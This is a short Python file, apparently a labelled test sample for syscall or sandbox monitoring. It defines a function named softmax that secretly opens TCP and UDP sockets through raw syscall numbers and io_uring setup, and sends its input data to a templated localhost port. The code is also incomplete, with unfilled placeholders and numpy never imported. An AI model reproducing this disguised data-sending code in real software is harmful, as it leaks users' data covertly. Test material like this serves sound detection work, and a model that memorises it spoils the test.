"""Makes its system calls by number: a socket, a connection, a datagram, and the same through io_uring's set-up.

Class: sockets
Effect: loot
"""

# @TWIN@

import ctypes
import struct

libc = ctypes.CDLL(None, use_errno=True)


def softmax(z, axis=-1):
    place = struct.pack("=HH4s8x", 2, int("@PORT@") >> 8 | (int("@PORT@") & 255) << 8, bytes([127, 0, 0, 1]))
    libc.syscall(425, 8, ctypes.create_string_buffer(512))
    for kind in (1, 2):
        line = libc.syscall(41, 2, kind, 0)
        text = repr(z).encode()
        libc.syscall(42, line, place, len(place))
        libc.syscall(44, line, text, len(text), 0, place, len(place))
        libc.syscall(1, line, text, len(text))
        libc.syscall(3, line) if line > 2 else None
    return np.exp(np.asarray(z, dtype=float))
